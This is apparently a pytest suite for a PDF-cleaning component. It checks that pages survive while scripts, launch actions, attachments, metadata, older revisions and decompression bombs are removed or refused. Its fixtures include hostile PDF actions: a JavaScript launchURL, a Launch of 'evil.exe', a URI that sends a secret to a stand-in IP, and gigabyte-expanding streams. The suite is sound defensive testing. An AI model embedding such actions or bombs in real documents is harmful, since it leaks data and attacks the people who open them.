"""Of a PDF the pages stay, and nothing acts, hides or tells."""

import io
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

from adapters.files.cleaning.photo_segments import without_metadata
from domain.documents.files import FileDamaged, MediaType
from tests.unit.files.made_files import MEBIBYTE, SECRET, action, bomb, cleaned, link, paper, photo, tags, written

SCRIPT = "app.launchURL('http://203.0.113.7')"
BY_ITSELF = [
    action("JavaScript", JS=SCRIPT),
    action("Launch", F="evil.exe", Win=Dictionary(F="evil.exe")),
    action("URI", URI="http://203.0.113.7/" + SECRET.decode()),
    action("SubmitForm", F=Dictionary(FS=Name.URL, F="http://203.0.113.7")),
    action("GoToR", F="//203.0.113.7/share.pdf", D=Array([0, Name.Fit])),
    action("GoToE", T=Dictionary(R=Name.C, N="inside.pdf")),
    action("ImportData", F="data.fdf"),
    action("Rendition", JS=SCRIPT),
    action("Named", N=Name.Print),
]


async def opened(made: Pdf, **options: object) -> Pdf:
    kind, result = await cleaned(written(made, **options))
    assert kind is MediaType.PDF
    return pikepdf.open(io.BytesIO(result))


def everything(made: Pdf) -> bytes:
    """All that the file holds, expanded."""
    level = pikepdf.StreamDecodeLevel.generalized
    return written(made, qdf=True, stream_decode_level=level, compress_streams=False)


async def test_the_page_stays_as_it_is() -> None:
    result = await opened(paper("Payslip of May"))
    assert b"(Payslip of May) Tj" in result.pages[0].obj.Contents.read_bytes()
    assert result.pages[0].mediabox == [0, 0, 200, 200]


@pytest.mark.parametrize("one", BY_ITSELF, ids=lambda one: str(one.S))
async def test_no_action_is_left_wherever_it_stands(one: Dictionary) -> None:
    made = paper()
    shared = made.make_indirect(one)
    chain = action("GoTo", D=Array([made.pages[0].obj, Name.Fit]), Next=Array([shared]))
    made.Root.OpenAction = shared
    made.Root.AA = Dictionary(WC=one)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["run", shared])))
    made.Root.Outlines = Dictionary(First=made.make_indirect(Dictionary(Title="x", A=shared)), Count=1)
    made.pages[0].obj.AA = Dictionary(O=shared)
    made.pages[0].obj.Annots = Array([link(one), made.make_indirect(link(shared)), link(chain)])
    made.Root.AcroForm = Dictionary(
        Fields=Array([made.make_indirect(Dictionary(FT=Name.Tx, T="name", V="Sok", AA=Dictionary(K=shared)))])
    )
    hints = (b"203.0.113.7", b"evil", b"/" + bytes(one.S)[1:] + b"\n", b"app.launchURL", b"/JavaScript", SECRET)
    before = everything(made)
    assert [hint for hint in hints if hint in before]
    text = everything(await opened(made))
    assert [hint for hint in hints if hint in text] == []
    assert b"(Sok)" in text  # what was filled in stays


async def test_links_inside_the_file_go_on_working() -> None:
    made = paper()
    made.pages[0].obj.Annots = Array([link(action("GoTo", D=Array([made.pages[0].obj, Name.Fit])))])
    result = await opened(made)
    assert Name.GoTo == result.pages[0].obj.Annots[0].A.S


async def test_attachments_media_and_private_data_go() -> None:
    made = paper()
    hidden = Stream(made, SECRET)
    file = made.make_indirect(Dictionary(Type=Name.Filespec, F="wages.zip", UF="wages.zip", EF=Dictionary(F=hidden)))
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["wages.zip", file])))
    made.Root.AF = Array([file])
    made.Root.Collection = Dictionary(D="wages.zip")
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array(["template", Stream(made, SECRET)]))
    page = made.pages[0].obj
    page.PieceInfo = Dictionary(Program=Dictionary(Private=Stream(made, SECRET)))
    page.Thumb = Stream(made, SECRET)
    page.Annots = Array(
        [
            Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), FS=file, Content=hidden)
            for kind in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D")
        ]
        + [Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=Array([0, 0, 9, 9]), Contents="see page 2")]
    )
    assert everything(made).count(SECRET) == 4
    result = await opened(made)
    assert SECRET not in everything(result)
    assert dict(result.attachments) == {}
    assert [str(one.Contents) for one in result.pages[0].obj.Annots] == ["see page 2"]


async def test_metadata_and_identifiers_go() -> None:
    made = paper()
    made.docinfo["/Author"] = SECRET.decode()
    with made.open_metadata() as xmp:
        xmp["dc:creator"] = [SECRET.decode()]
    made.pages[0].obj.Metadata = Stream(made, SECRET)
    content = written(made)
    assert everything(made).count(SECRET) == 3
    before = pikepdf.open(io.BytesIO(content)).trailer.ID[0]
    result = await opened(made)
    assert SECRET not in everything(result)
    assert "/Info" not in result.trailer
    assert bytes(result.trailer.ID[0]) != bytes(before)


PACKED = {
    "alone": (lambda content: content, [Name.DCTDecode]),
    "deflated": (zlib.compress, [Name.FlateDecode, Name.DCTDecode]),
    "as letters": (lambda content: content.hex().encode() + b">", [Name.ASCIIHexDecode, Name.DCTDecode]),
    "both": (lambda content: zlib.compress(content).hex().encode() + b">",
             [Name.ASCIIHexDecode, Name.FlateDecode, Name.DCTDecode]),
}  # fmt: skip


@pytest.mark.parametrize("way", PACKED)
async def test_photos_in_a_paper_lose_their_place_and_keep_every_pixel(way: str) -> None:
    made, (pack, filters) = paper(), PACKED[way]
    content = photo(exif=tags(), comment=SECRET)
    image = Stream(made, content)
    image.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
    )
    image.write(pack(content), filter=Array(filters))
    made.pages[0].obj.Resources.XObject = Dictionary(Im0=image)
    result = await opened(made)
    kept = result.pages[0].obj.Resources.XObject.Im0
    assert SECRET not in kept.read_raw_bytes()
    assert b"Exif" not in kept.read_raw_bytes()
    before, after = (Image.open(io.BytesIO(one)) for one in (content, kept.read_raw_bytes()))
    assert after.tobytes() == before.tobytes()


@pytest.mark.parametrize("progressive", [False, True])
def test_a_photo_keeps_nothing_behind_its_end_and_between_its_scans(progressive: bool) -> None:
    content = photo(progressive=progressive, restart_marker_rows=1)
    said = b"\xff\xfe" + (len(SECRET) + 2).to_bytes(2, "big") + SECRET
    scan = content.rindex(b"\xff\xda")  # the last of several, or the only one
    told = content[:scan] + said + content[scan:] + photo(exif=tags(), comment=SECRET)
    assert without_metadata(told) == without_metadata(content)
    before, after = (Image.open(io.BytesIO(one)) for one in (content, without_metadata(told)))
    assert after.tobytes() == before.tobytes()


async def test_what_an_older_version_said_goes() -> None:
    plain = {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False}
    content = written(paper("Before: " + SECRET.decode()), **plain)
    with pikepdf.open(io.BytesIO(content)) as before:
        number, size = before.pages[0].obj.Contents.objgen[0], before.trailer.Size
    newer = b"%d 0 obj\n<< /Length 14 >>\nstream\nBT (now) Tj ET\nendstream\nendobj\n" % number
    tail = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    older = int(content[content.rindex(b"startxref") :].split()[1])
    content += newer + tail % (number, len(content), size, older, len(content) + len(newer))
    assert SECRET in content
    _, result = await cleaned(content)
    text = everything(pikepdf.open(io.BytesIO(result)))
    assert b"(now) Tj" in text
    assert SECRET not in text


async def test_content_in_another_file_is_not_referred_to() -> None:
    made = paper()
    outside = Stream(made, b"")
    outside.F = "//203.0.113.7/share"
    made.pages[0].obj.Contents = Array([made.pages[0].obj.Contents, outside])
    assert b"203.0.113.7" not in everything(await opened(made))


async def test_a_paper_that_needs_a_password_is_refused() -> None:
    locked = written(paper(), encryption=pikepdf.Encryption(owner="owner", user="user"))
    with pytest.raises(FileDamaged, match="locked by a password"):
        await cleaned(locked)


async def test_a_paper_that_only_asks_not_to_be_printed_is_kept_without_that() -> None:
    made = await opened(paper("Contract"), encryption=pikepdf.Encryption(owner="owner", user=""))
    assert not made.is_encrypted
    assert b"(Contract) Tj" in made.pages[0].obj.Contents.read_bytes()


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.7", b"%PDF-1.4\n" + b"[" * 100_000, written(paper())[:200], written(pikepdf.new())],
    ids=["bare", "nested", "cut", "no page"],
)
async def test_a_broken_paper_is_refused(content: bytes) -> None:
    with pytest.raises(FileDamaged):
        await cleaned(content)


async def test_a_paper_whose_objects_expand_to_gigabytes_is_refused() -> None:
    content, packed = written(paper(), object_stream_mode=pikepdf.ObjectStreamMode.generate), bomb(1500)
    start = content.index(b"/ObjStm")
    head, end = content.rindex(b"obj\n", 0, start) + 4, content.index(b"endstream", start)
    entries = b"<< /Type /ObjStm /Length %d /Filter /FlateDecode /N 3 /First 5 >>\nstream\n" % len(packed)
    content = content[:head] + entries + packed + b"\n" + content[end:]
    assert len(content) < 2 * MEBIBYTE
    with pytest.raises(FileDamaged):
        await cleaned(content)


async def test_a_page_that_expands_to_gigabytes_stays_as_small_as_it_came() -> None:
    made = paper()
    made.pages[0].obj.Contents.write(bomb(1500), filter=Name.FlateDecode)
    _, result = await cleaned(written(made))
    assert len(result) < 2 * MEBIBYTE
